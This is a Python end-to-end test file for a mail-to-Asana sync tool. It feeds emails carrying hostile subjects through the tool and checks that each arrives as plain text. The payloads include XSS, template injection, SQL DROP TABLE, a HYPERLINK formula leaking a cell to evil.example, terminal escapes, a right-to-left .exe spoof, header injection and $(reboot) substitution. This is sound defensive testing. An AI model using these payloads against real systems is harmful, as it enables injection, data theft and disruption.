"""Letters that attack what shows them: markup, templates, SQL, formulas, terminal codes, turned-around text.

Each goes the whole way: a mailbox, the database, a note in Asana, the terminal. It arrives as the words it is.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import date, timedelta
from email.header import Header
from pathlib import Path
from xml.etree import ElementTree

import pytest

from syncd.demo.letters.cast import ANNA, OLGA
from syncd.demo.mail.server import Delivered
from syncd.demo.world import DemoWorld
from tests.e2e.program import syncd, syncd_json

pytestmark = pytest.mark.e2e

SUBJECTS = {
    "markup": "<script>alert(1)</script></body><b>&lt;жирно&gt;</b>",
    "mention": '<a data-asana-gid="1200000000000001"/>',
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "sql": "'); DROP TABLE letters; DELETE FROM notes WHERE ''='",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Счёт")',
    "terminal": "\x1b[2J\x1b[31mКрасный\x1b]0;заголовок\x07\x9b5n",
    "turned": "Смета \u202efdp.exe\u2066 конец\u200f",
    "lines": "Смета\r\nBcc: all@client1.example\nA-AAAAA\x00",
    "format": "%s%n {0.__class__} ${HOME} $(reboot) `reboot`",
    "long": "Смета " + "я" * 3000,
}
ASKS = "Анна, добрый день! Когда пришлёте новую смету?"
FORBIDDEN = {chr(code) for code in (*range(32), *range(127, 160)) if chr(code) != "\n"} | set(
    "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
)


def letter(number: int, text: str, sent: str) -> bytes:
    """The attack stands in the subject, the sender's name, a file's name and the body."""
    subject = Header(text, "utf-8", maxlinelen=900).encode()
    name = Header(text[:200], "utf-8", maxlinelen=900).encode()
    return (
        f"From: {name} <new.person{number}@{OLGA.email.partition('@')[2]}>\r\nTo: {ANNA.email}\r\nSubject: {subject}\r\n"
        f"Date: {sent}\r\nMessage-ID: <hostile-{number}@{OLGA.email.partition('@')[2]}>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n'
        f"{ASKS}\r\n\r\n{text}\r\n--b\r\nContent-Type: application/pdf\r\n"
        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n%PDF\r\n--b--\r\n'
    ).encode()


@dataclass
class Attacked:
    world: DemoWorld
    config: Path
    shown: str  # what `once` printed, logs included

    @property
    def as_of(self) -> tuple[str, str]:
        return "--as-of", self.world.now.isoformat()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    folder = tmp_path_factory.mktemp("attacked")
    with DemoWorld(folder, date(2026, 5, 14)) as world:
        at = world.now - timedelta(hours=6)
        for number, text in enumerate(SUBJECTS.values()):
            raw = letter(number, text, at.strftime("%a, %d %b %Y %H:%M:%S +0300"))
            (folder / f"{number}.eml").write_bytes(raw)
            world.mail.deliver(Delivered(ANNA.email, "INBOX", raw, at))
        config = world.write_config()
        done = syncd("once", "--as-of", world.now.isoformat(), config=config)
        assert done.returncode == 0, done.stdout + done.stderr
        yield Attacked(world, config, done.stdout + done.stderr)


def all_texts(world: DemoWorld) -> str:
    return "\n".join(f"{note.task}\n{note.text}" for note in world.notes_in_asana())


@pytest.mark.parametrize(
    "words",
    [
        "<script>alert(1)</script></body><b>&lt;жирно&gt;</b>",
        '<a data-asana-gid="1200000000000001"/>',
        "{{ 7*7 }}{% for x in",
        "'); DROP TABLE letters;",
        '=HYPERLINK("https://evil.example',
        "Красный",
        "fdp.exe",
        "${HOME} $(reboot) `reboot`",
    ],
)
def test_it_arrives_in_asana_as_the_words_it_is(attacked: Attacked, words: str):
    assert words in all_texts(attacked.world)


def test_nothing_of_it_is_markup_in_asana(attacked: Attacked):
    for note in attacked.world.asana.tasks_in(attacked.world.internal):
        body = ElementTree.fromstring(note.html_notes)
        assert {element.tag for element in body.iter()} <= {"body", "strong", "em", "a", "ul", "ol", "li"}
        for link in body.iter("a"):
            assert link.get("data-asana-gid") is None or link.get("data-asana-type") == "user"


def test_nothing_in_asana_is_turned_around_or_unseen(attacked: Attacked):
    assert set(all_texts(attacked.world)) & FORBIDDEN == set()


def test_a_line_in_a_subject_is_no_line_and_no_reference_of_ours(attacked: Attacked):
    notes = [note for note in attacked.world.notes_in_asana() if "A-AAAAA" in note.text]
    assert notes
    for note in notes:
        assert "A-AAAAA" not in note.text.splitlines()
        assert "\n" not in note.task
        assert note.text.rpartition("\n")[2].startswith("A-")


def test_the_clients_own_project_holds_nothing_of_it(attacked: Attacked):
    client_side = [note for note in attacked.world.notes_in_asana() if not note.is_internal]
    assert client_side
    for text in ("script", "7*7", "DROP TABLE", "HYPERLINK", "evil.example", "$(reboot)"):
        assert not any(text in note.text or text in note.task for note in client_side)


def test_the_database_is_whole_and_holds_every_letter(attacked: Attacked):
    with closing(sqlite3.connect(attacked.config.parent / "syncd.db")) as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        (count,) = db.execute("SELECT count(*) FROM letters WHERE message_id LIKE '%hostile-%'").fetchone()
    assert count == len(SUBJECTS)


def test_a_second_cycle_writes_nothing(attacked: Attacked):
    before = len(attacked.world.asana.writes)
    syncd_json("once", *attacked.as_of, config=attacked.config)
    assert len(attacked.world.asana.writes) == before


def test_the_terminal_gets_words_only(attacked: Attacked):
    files = [str(path) for path in sorted(attacked.config.parent.glob("*.eml"))]
    refs = [case["ref"] for case in syncd_json("status", config=attacked.config)["cases"]]
    shown = [attacked.shown]
    for words in (
        ("status",),
        ("classify", *files),
        *(("explain", file) for file in files),
        *(("explain", ref) for ref in refs[:12]),
    ):
        done = syncd(*words, config=attacked.config)
        assert done.returncode in (0, 1), done.stderr
        shown.append(done.stdout + done.stderr)
    assert set("".join(shown)) & FORBIDDEN == set()
    assert "Красный" in "".join(shown)


def test_json_says_it_all_in_json(attacked: Attacked):
    files = [str(path) for path in sorted(attacked.config.parent.glob("*.eml"))]
    done = syncd("classify", "--json", *files, config=attacked.config)
    results = [json.loads(line) for line in done.stdout.splitlines()]
    assert [result["file"] for result in results] == files
    assert {result["verdict"] for result in results} <= {"none", "needs_confirmation"}
